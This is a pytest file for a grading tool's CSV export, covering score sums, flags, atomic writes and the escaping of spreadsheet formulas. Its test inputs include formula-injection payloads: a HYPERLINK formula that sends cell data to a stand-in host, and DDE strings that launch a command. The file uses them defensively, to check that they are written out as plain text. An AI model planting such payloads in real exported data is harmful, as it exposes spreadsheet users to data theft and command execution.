"""Batch CSV: header, per-part sums, flags, atomic write."""

from __future__ import annotations

import csv
from pathlib import Path

from grader.report.csv_rows import csv_header, csv_row, flags, write_csv
from grader.results import GradeReport
from grader.results import TestResult as Result

PARTS = ["1", "2", "3"]
META = {"id": "123", "name": "Ada Lovelace", "email": "ada@example.edu", "sid": "9001"}


def _report() -> GradeReport:
    return GradeReport(
        tests=(
            Result("a", "1.a", "p1a_output", 2.0, 2.0, "passed", "visible", "Correct.", part="1"),
            Result("b", "1.b", "p1b_positive_sides", 0.5, 1.0, "partial", "visible", "Half.", part="1"),
            Result("c", "2.a", "p2a_h_seq1", 0.0, 2.0, "invalid", "visible", "Expected 6 values.", part="2"),
            Result(
                "d", "2.e", "lstm_run", 0.0, 3.0, "error", "hidden", "The call timed out after 2 s.", part="2"
            ),
            Result(
                "e",
                "2.b",
                "p2b_interpretation",
                0.0,
                2.0,
                "manual",
                "visible",
                "Kept.",
                part="2",
                manual=True,
            ),
        )
    )


def test_header():
    assert csv_header(PARTS) == ["id", "name", "email", "sid", "total", "max", "1", "2", "3", "flags"]


def test_row_values():
    assert csv_row(_report(), meta=META, parts=PARTS) == [
        "123",
        "Ada Lovelace",
        "ada@example.edu",
        "9001",
        "2.5",
        "8",
        "2.5",
        "0",
        "",
        "error;invalid;timeout",
    ]


def test_flags_from_notices_and_clean_report():
    clean = GradeReport(tests=(Result("a", "1", "a", 1.0, 1.0, "passed", "visible", "Correct.", part="1"),))
    assert flags(clean) == []
    assert csv_row(clean, meta={}, parts=["1"]) == ["", "", "", "", "1", "1", "1", ""]
    noted = GradeReport(tests=(), notices=("Line 4 ran out of time.",))
    assert flags(noted) == ["notice", "timeout"]


def test_a_run_without_isolation_is_not_a_flag_a_submission_notice_still_is():
    from grader.sandbox.namespaces import unisolated_notice

    run_notice = unisolated_notice("ta")
    assert flags(GradeReport(tests=(), notices=(run_notice,))) == []
    both = GradeReport(tests=(), notices=(run_notice, "Your file ran with an error at line 3: ValueError"))
    assert flags(both) == ["notice"]


def test_write_csv_quotes_and_replaces(tmp_path: Path):
    path = tmp_path / "out" / "grades.csv"
    rows = [csv_row(_report(), meta={**META, "name": "Lovelace, Ada"}, parts=PARTS)]
    write_csv(path, csv_header(PARTS), rows)
    write_csv(path, csv_header(PARTS), rows)
    with path.open(newline="") as handle:
        read = list(csv.reader(handle))
    assert read[0] == csv_header(PARTS)
    assert read[1][1] == "Lovelace, Ada" and read[1][-1] == "error;invalid;timeout"
    assert sorted(p.name for p in path.parent.iterdir()) == ["grades.csv"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"grades")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


def test_a_formula_in_any_text_cell_stays_text_and_numbers_stay_numbers(tmp_path: Path):
    path = tmp_path / "grades.csv"
    rows = [csv_row(_report(), meta={"id": f, "name": f, "email": f, "sid": f}, parts=PARTS) for f in FORMULAS]
    rows.append(csv_row(_report(), meta={"id": "7", "name": "Ada-Lovelace", "email": "a@b.c", "sid": "-1001"},
                        parts=PARTS))
    rows.append(["1", "x", "y", "+42", "-2.5", "1e3", "-0.5", "", "-", "=", "@"])
    write_csv(path, csv_header(PARTS), rows)
    with path.open(newline="") as handle:
        read = list(csv.reader(handle))
    for formula, row in zip(FORMULAS, read[1:], strict=False):
        assert row[:4] == ["'" + formula.replace("\r", "\n")] * 4  # a lone CR would end the row
        assert row[4:6] == ["2.5", "8"]
    assert read[-2][:6] == ["7", "Ada-Lovelace", "a@b.c", "-1001", "2.5", "8"]
    assert read[-1] == ["1", "x", "y", "+42", "-2.5", "1e3", "-0.5", "", "'-", "'=", "'@"]
